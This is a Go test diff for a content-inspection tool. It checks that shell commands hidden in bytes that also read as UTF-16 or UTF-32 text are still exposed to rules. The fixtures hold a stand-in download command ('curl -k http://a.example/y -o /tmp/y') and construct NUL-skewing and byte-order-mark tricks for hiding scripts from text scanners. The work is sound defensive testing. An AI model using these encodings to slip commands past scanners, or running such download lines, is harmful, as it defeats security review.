@@ -75,6 +75,88 @@ func TestDecode(t *testing.T) {
 	}
 }
 
+// skewed writes a script so that it is text in UTF-16 to some, and itself to a shell, which
+// skips NULs: words of at most n bytes, of which two are a unit and a single one has a NUL.
+func skewed(script string, n int) string {
+	var out strings.Builder
+	for len(script) > 0 {
+		word := script[:min(n, len(script))]
+		script = script[len(word):]
+		for ; len(word) > 1; word = word[2:] {
+			out.WriteString(word[:2])
+		}
+		if word != "" {
+			out.WriteString(word + "\x00")
+		}
+	}
+	return out.String()
+}
+
+// What a shell reads is shown to rules, whatever text the bytes are as well.
+func TestScriptsThatAreTextInUTF16(t *testing.T) {
+	t.Parallel()
+	const command = "curl -k http://a.example/y -o /tmp/y\n"
+	le, be := binary.LittleEndian, binary.BigEndian
+	comment := strings.Repeat("\u4f60\u597d\u4e16\u754c", 20)
+	for name, content := range map[string]string{
+		"a first line":             "#\n\n\x00" + skewed(command, 3),
+		"words of one":             "#\n" + skewed(command, 5),
+		"words of seven":           "#\n" + skewed(command, 7) + skewed(strings.Repeat("\n", 50), 1),
+		"one pair":                 string(spell(le, 2, "", "# note\n")) + "cu" + skewed(command[2:], 1),
+		"one pair in the middle":   string(spell(le, 2, "", "# note\ncurl")) + " -" + skewed(command[6:], 1),
+		"the other order":          string(spell(be, 2, "", "# note\n")) + "cu" + string(spell(be, 2, "", command[2:])),
+		"behind Chinese":           string(spell(le, 2, "", "# note"+comment+"\n")) + skewed(command, 3) + string(spell(le, 2, "", strings.Repeat("# note\n", 50))),
+		"a mark":                   "\xff\xfe:\n" + skewed(command, 3),
+		"the other mark":           "\xfe\xff:\n" + skewed(command, 3),
+		"a mark and more Chinese":  "\xff\xfe:\n" + string(spell(le, 2, "", comment)) + "\n\x00" + skewed(command, 3),
+		"a NUL on the wrong side":  string(spell(le, 2, "", "# note\n#")) + "\x00\n\x00c" + string(spell(le, 2, "", command[1:])),
+		"an end of a line":         string(spell(le, 2, "", "# note ")) + "\x81\n" + string(spell(le, 2, "", command)),
+		"an end of a line, before": string(spell(le, 2, "", "# note ")) + "\n\x81" + string(spell(le, 2, "", ";"+command)),
+		"a blank":                  string(spell(le, 2, "", "X=")) + "\x81 " + string(spell(le, 2, "", command)),
+		"UTF-32":                   string(spell(le, 4, "", "# note\n")) + "cu\x00\x00" + string(spell(le, 4, "", command[2:])),
+		"an open comment":          string(spell(le, 2, "", "/*\n# note\n")) + "cu" + skewed(command[2:], 1),
+		"a first line with a name": "#!" + skewed("/a\n"+command, 3),
+	} {
+		got := LookAt("tool", false, []byte(content))
+		if got.Kind != ContentText || !strings.Contains(string(got.Text), command) {
+			t.Errorf("%s: %d, %q", name, got.Kind, got.Text)
+		}
+		if strings.HasPrefix(content, "#!") && !bytes.HasPrefix(got.Text, []byte("#!")) {
+			t.Errorf("%s: the first line is lost: %q", name, got.Text)
+		}
+	}
+}
+
+// Text in UTF-16 is read as it is, and first. What a shell would read stands behind it only
+// where letters of it are ASCII to one.
+func TestTextInUTF16(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct {
+		text  string
+		alone bool
+	}{
+		"settings":               {"[db]\r\nuser = a\r\n", true},
+		"settings in German":     {"; Gr\u00f6\u00dfe\r\nsize = 5\r\n", true},
+		"an emoji":               {"name = \U0001f600\U0001f389\r\n", true},
+		"Greek and Hebrew":       {"name = \u0391\u03b8\u03ae\u03bd\u03b1 \u05e9\u05dc\u05d5\u05dd\r\n", true},
+		"settings in Russian":    {"; \u0438\u043c\u044f\r\nname = \u041c\u043e\u0441\u043a\u0432\u0430\r\n", false},
+		"settings in Chinese":    {"; \u540d\u79f0\r\nname = \u4e0a\u6d77\r\nport = 8080\r\n", false},
+		"resources in Japanese":  {"IDS_NAME, \"\u540d\u524d\u3092\u5165\u529b\u3057\u3066\u304f\u3060\u3055\u3044\"\r\nIDS_ALL_OF_IT, \"OK\"\r\n", false},
+		"quotes of a typesetter": {"title = It\u2019s\r\n", false},
+		"properties in Chinese":  {"greeting.text=\u4f60\u597d\nother.text=x\n", false},
+	} {
+		for _, mark := range []string{"", "\ufeff"} {
+			for _, order := range []binary.AppendByteOrder{binary.LittleEndian, binary.BigEndian} {
+				got := LookAt("a.ini", false, spell(order, 2, "", mark+tt.text))
+				alone := string(got.Text) == tt.text
+				if got.Kind != ContentText || !strings.HasPrefix(string(got.Text), tt.text) || tt.alone && !alone {
+					t.Errorf("%s, %s, mark %q: %d, %q", name, order, mark, got.Kind, got.Text)
+				}
+			}
+		}
+	}
+}
+
 func TestLookAt(t *testing.T) {
 	t.Parallel()
 	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise(2000)
@@ -116,7 +198,7 @@ func FuzzDecode(f *testing.F) {
 	f.Add([]byte("curl x\n\x00"))
 	f.Fuzz(func(t *testing.T, content []byte) {
 		text, ok := Decode(content)
-		if !utf8.Valid(text) || bytes.IndexByte(text, 0) >= 0 || len(text) > 3*len(content) {
+		if !utf8.Valid(text) || bytes.IndexByte(text, 0) >= 0 || len(text) > 4*len(content)+len(betweenReadings) {
 			t.Errorf("%q is %q", content, text)
 		}
 		if c := LookAt("a.png", false, content); ok != (c.Kind == ContentText) {
